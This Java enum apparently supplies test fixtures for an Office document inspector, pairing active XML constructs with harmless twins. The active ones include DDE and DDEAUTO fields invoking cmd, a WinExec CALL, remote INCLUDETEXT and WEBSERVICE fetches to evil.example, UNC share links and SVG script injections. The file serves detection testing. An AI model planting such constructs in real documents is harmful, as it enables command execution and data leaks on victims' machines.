package org.sluis.inspection;

/** A piece of XML in an Office Open XML document that does something, and its twin that does not. */
enum OfficeConstruct {
    FIELD(field("instrText", " DDEAUTO cmd "), field("instrText", " PAGE ")),
    FIELD_IN_PIECES(field("instrText", " D", "DE", "AUTO", " cmd "), field("instrText", " P", "AG", "E")),
    DELETED_FIELD(field("delInstrText", " DD", "E cmd x"), field("delInstrText", " DA", "TE x")),
    FIELD_WITHOUT_MARKS("<w:r><w:instrText> DDEAUTO cmd </w:instrText></w:r>", "<w:r><w:t> DDEAUTO cmd </w:t></w:r>"),
    FIELD_OF_FIELDS(
            begun(field("instrText", "QUOTE 68 68 69") + "<w:instrText> cmd</w:instrText>"),
            begun("<w:instrText>IF 1 = 1 </w:instrText>" + field("instrText", "PAGE"))),
    FIELD_IN_TEXT(
            begun("<w:t>DDE</w:t><w:instrText>AUTO cmd</w:instrText>"),
            "<w:t>DDE</w:t>" + begun("<w:instrText>AUTO cmd</w:instrText>")),
    FIELD_WITH_DELETED_TEXT(
            begun("<w:del><w:delInstrText>x</w:delInstrText></w:del><w:instrText>DDE c</w:instrText>"),
            begun("<w:del><w:delInstrText>x</w:delInstrText></w:del><w:instrText>PAGE</w:instrText>")),
    FIELD_WITH_AN_ALTERNATIVE(
            begun(alternative("<w:instrText>x</w:instrText>") + "<w:instrText>DDE c</w:instrText>"),
            begun("<w:instrText>PAGE</w:instrText>") + alternative("<w:t>DDE c</w:t>")),
    FIELD_THAT_SOME_LEAVE(
            begun(alternative("<w:fldChar w:fldCharType='separate'/>") + "<w:t>DDE c</w:t>"),
            alternative(begun("<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType='separate'/>"))),
    FIELD_WITH_A_MARK_OF_OTHERS(
            begun("<i:fldChar xmlns:i='x' w:fldCharType='separate'/><w:t>DDE c</w:t>"),
            begun("<i:mark xmlns:i='x' w:fldCharType='separate'/><w:t>PAGE</w:t>")),
    FIELD_WITH_TEXT_OF_OTHERS(
            begun("<i:t xmlns:i='x'>x</i:t><w:instrText>DDE c</w:instrText>"),
            begun("<i:t xmlns:i='x'>x</i:t><w:instrText>PAGE</w:instrText>")),
    SIMPLE_FIELD("<w:fldSimple w:instr='DDE cmd x'/>", "<w:fldSimple w:instr='DATE'/>"),
    REMOTE_FIELD(simple("INCLUDEPICTURE \"https://evil.example/p.png\""), simple("HYPERLINK \"https://example.org\"")),
    REMOTE_TEXT(field("instrText", "INCLUDETEXT \"htt", "ps://evil.example/p.docx\""), field("instrText", "REF a")),
    SHARE_FIELD(simple("HYPERLINK \"\\\\\\\\evil\\\\x\""), simple("HYPERLINK \\l \"a\"")),
    LINK_FIELD(simple("LINK Excel.Sheet.8 \"\\\\\\\\evil\\\\x.xlsx\""), simple("SEQ Excel.Sheet.8")),
    DATABASE_FIELD(simple("DATABASE \\d \"C:\\\\x\""), simple("DOCPROPERTY DATABASE")),
    CONTROL_FIELD(simple("HTMLCONTROL Forms.HTML:Image.1"), simple("FORMTEXT")),
    FORMULA("<x:f>_xlfn.WEBSERVICE(A1)</x:f>", "<x:f>SUM('Webservice (1)'!A1)</x:f>"),
    FILTER(
            "<x:f>_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"http://evil.example\"),\"//a\")</x:f>",
            "<x:f>_xlfn.FILTERXML(A1,\"//a\")</x:f>"),
    FORMULA_OF_OTHERS("<x:f>'https://evil.example/[x.xlsx]S'!A1</x:f>", "<x:f>[1]S!A1</x:f>"),
    SHARE_FORMULA("<x:f t='shared'>'\\\\evil\\[x.xlsx]S'!A1</x:f>", "<x:f>'[x.xlsx]S'!A1</x:f>"),
    LINK_FORMULA(
            "<x:f>HYPERLINK(\"\\\\evil\\\"&amp;\"x\")</x:f>", "<x:f>HYPERLINK(\"https://\"&amp;\"example.org\")</x:f>"),
    DDE_FORMULA("<x:f>cmd|'/C calc'!A0</x:f>", "<x:f>SUM({1|2})+\"a|b\"</x:f>"),
    IMAGE_FORMULA("<x:f>_xlfn.IMAGE(\"https://evil.example/\")</x:f>", "<x:f>MyImage</x:f>"),
    NAMED_FORMULA(
            "<x:definedName name='a'>CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"x\",5)</x:definedName>",
            "<x:definedName name='a'>S!$A$1:$B$2</x:definedName>"),
    CONDITION("<x:formula1>WEBSERVICE(\"x\")</x:formula1>", "<x:formula1>\"a,b\"</x:formula1>"),
    NEW_CONDITION(
            "<xm:f xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'>_xlfn.RTD(1,2)</xm:f>", "<x:g/>"),
    COLUMN_FORMULA(
            "<x:calculatedColumnFormula>REGISTER.ID(1)</x:calculatedColumnFormula>",
            "<x:calculatedColumnFormula>SUM(A1)</x:calculatedColumnFormula>"),
    TEXT_LINK("<a:sp textlink='WEBSERVICE(A1)'/>", "<a:sp textlink='S!$A$1'/>"),
    CONTROL_FORMULA("<x:control fmlaLink='&#39;\\\\evil\\[x]S&#39;!A1'/>", "<x:control fmlaLink='$A$1'/>"),
    CHART_FORMULA("<c:f>'http://evil.example/[a.xlsx]S'!A1</c:f>", "<c:f>S!$A$1</c:f>"),
    OLD_PICTURE("<v:imagedata src='https://evil.example/p.png'/>", "<v:imagedata src='image1.png'/>"),
    OLD_PICTURE_LINK(
            "<v:imagedata o:href='https://evil.example/p.png'/>",
            "<v:imagedata o:title='https://evil.example/p.png'/>"),
    OLD_FILL("<v:fill o:althref='\\\\evil\\p.png'/>", "<v:fill o:title='\\\\evil\\p.png'/>"),
    OLD_LINK("<v:rect href='ms-msdt:/id'/>", "<v:rect href='https://example.org'/>"),
    OLD_SCRIPT_LINK("<v:shape href='java&#10;script:x'/>", "<v:shape href='#a'/>"),
    SCRIPT(svg("<s:script>x</s:script>"), svg("<s:g/>")),
    SCRIPT_IN_CAPITALS("<SVG><SCRIPT/></SVG>", "<SVG><G/></SVG>"),
    SVG_EVENT(svg("<s:g onload='x'/>"), svg("<s:g transform='x'/>")),
    SVG_PICTURE(svg("<s:image href='https://evil.example/'/>"), svg("<s:image href='data:image/png;base64,AA=='/>")),
    SVG_STYLE(svg("<s:style>a { fill: url(//evil/x) }</s:style>"), svg("<s:style>a { fill: url(#x) }</s:style>")),
    SVG_ANIMATION(
            svg("<s:a><s:set attributeName='href' to='javascript:x'/></s:a>"),
            svg("<s:a><s:set attributeName='x' to='1'/></s:a>")),
    PAGE_PICTURE("<img src='https://evil.example/'/>", "<a:img src='x'/>"),
    PAGE_SCRIPT("<h:script xmlns:h='http://www.w3.org/1999/xhtml'/>", "<h:b xmlns:h='http://www.w3.org/1999/xhtml'/>"),
    DDE("<x:ddeLink ddeService='cmd' ddeTopic='/c calc'/>", "<x:book/>"),
    QUERY("<x:webPr url='https://evil.example'/>", "<x:prop/>"),
    DATABASE("<x:dbPr connection='Provider=x'/>", "<x:dbPr connection='Data Model Connection'/>"),
    CUBE("<x:olapPr localConnection='Provider=x'/>", "<x:olapPr local='1'/>"),
    TEXT_FILE("<x:textPr sourceFile='\\\\evil\\x.csv'/>", "<x:textPr sourceFile='C:\\x.csv'/>"),
    CONNECTION_FILE("<x:connection odcFile='https://evil.example/x.odc'/>", "<x:connection odcFile='x.odc'/>"),
    BINDING("<x:DataBinding FileBindingName='https://evil.example/x'/>", "<x:DataBinding DataBindingName='x'/>"),
    SCHEMA("<w:schema w:manifestLocation='https://evil.example/'/>", "<w:schema w:uri='https://evil.example/'/>"),
    MERGE("<w:connectString w:val='Provider=x'/>", "<w:mainDocumentType w:val='Provider=x'/>"),
    PUBLISHED(
            "<x:webPublishItem destinationFile='\\\\evil\\x.htm' autoRepublish='1'/>",
            "<x:webPublishItem destinationFile='C:\\x.htm'/>"),
    VIDEO("<wp15:webVideoPr xmlns:wp15='x' embeddedHtml='x'/>", "<wp15:other xmlns:wp15='x' h='x'/>"),
    EXTENSION("<we:webextension xmlns:we='x'/>", "<we:taskpane xmlns:we='x'/>"),
    ACTION(
            "<a:hlinkClick action='ppaction://program'/>",
            "<a:hlinkClick action='ppaction://hlinkshowjump?jump=nextslide'/>"),
    HOVER(
            "<a:hlinkHover r:id='h1'/>",
            "<a:hlinkHover r:id='h1' action='ppaction://hlinksldjump'/>".replace("r:id='h1' ", "")),
    VERB("<p:cmd type='verb' cmd='0'/>", "<p:cmd type='call' cmd='playFrom(0.0)'/>"),
    SHEET_OF_MACROS("<x:macrosheet/>", "<x:worksheet/>"),
    BASE("<HyperlinkBase>\\\\evil\\</HyperlinkBase>", "<HyperlinkBase>C:\\</HyperlinkBase>"),
    RIBBON(
            "<u:button xmlns:u='http://schemas.microsoft.com/office/2006/01/customui' onAction='\\\\evil\\x.dotm!M'/>",
            "<u:button xmlns:u='http://schemas.microsoft.com/office/2006/01/customui' onAction='M'/>"),
    FLAT("<k:package xmlns:k='http://schemas.microsoft.com/office/2006/xmlPackage'/>", "<k:package xmlns:k='x'/>"),
    LINKED_PICTURE("<a:blip r:link='h1'/>", "<w:hyperlink r:id='h1'/>"),
    LINKED_PICTURE_BY_OTHER_ID("<a:blip r:embed=' H1'/>", "<a:hlinkClick r:id=' H1'/>"),
    LINKED_OLD_PICTURE("<v:imagedata r:href='h1'/>", "<v:imagedata o:title='h1'/>"),
    OLD_PICTURE_BY_ID("<v:fill o:relid='h1'/>", "<v:fill type='h1'/>"),
    LINKED_OBJECT(
            "<o:OLEObject Type='Link' ProgID='Excel.Sheet.12' r:id='h1'/>", "<o:OLEObject Type='Embed' ProgID='x'/>"),
    LINKED_BOOK("<x:externalBook r:id='h1'/>", "<x:externalBook/>"),
    LINKED_TEMPLATE("<w:attachedTemplate r:id='h1'/>", "<w:attachedTemplate/>"),
    LINKED_DATA("<c:externalData r:id='h1'/>", "<c:externalData/>"),
    LINKED_FRAME("<w:sourceFileName r:id='h1'/>", "<w:sourceFileName w:val='h1'/>"),
    LINKED_CHAPTER("<w:subDoc r:id='h1'/>", "<w:p/>"),
    TAKEN_IN("<w:altChunk r:id='h1'/>", "<w:hyperlink r:id='h1'/>");

    /** Where a click leads that a part's own relationships hold under the id {@code h1}. */
    static final String HYPERLINK = "<Relationship Id='h1' Type='" + OfficePackage.RELATIONSHIPS
            + "hyperlink' TargetMode='External' Target='https://example.org'/>";

    private final String active;
    private final String harmless;

    OfficeConstruct(String active, String harmless) {
        this.active = active;
        this.harmless = harmless;
    }

    /** As a whole document. */
    String xml(boolean doing) {
        return "<w:x xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
                + " xmlns:x='http://schemas.openxmlformats.org/spreadsheetml/2006/main'"
                + " xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main'"
                + " xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main'"
                + " xmlns:c='http://schemas.openxmlformats.org/drawingml/2006/chart'"
                + " xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'"
                + " xmlns:v='urn:schemas-microsoft-com:vml' xmlns:o='urn:schemas-microsoft-com:office:office'>"
                + (doing ? active : harmless) + "</w:x>";
    }

    private static String field(String element, String... pieces) {
        StringBuilder field = new StringBuilder("<w:r><w:fldChar w:fldCharType='begin'/></w:r>");
        for (String piece : pieces) {
            field.append("<w:r><w:%1$s>%2$s</w:%1$s></w:r>".formatted(element, piece));
        }
        return field + "<w:r><w:fldChar w:fldCharType='end'/></w:r>";
    }

    private static String begun(String content) {
        return "<w:fldChar w:fldCharType='begin'/>" + content + "<w:fldChar w:fldCharType='end'/>";
    }

    private static String alternative(String content) {
        return "<m:AlternateContent xmlns:m='http://schemas.openxmlformats.org/markup-compatibility/2006'><m:Choice>"
                + content + "</m:Choice></m:AlternateContent>";
    }

    private static String simple(String instruction) {
        return "<w:fldSimple w:instr='" + instruction + "'/>";
    }

    private static String svg(String content) {
        return "<s:svg xmlns:s='http://www.w3.org/2000/svg'>" + content + "</s:svg>";
    }
}
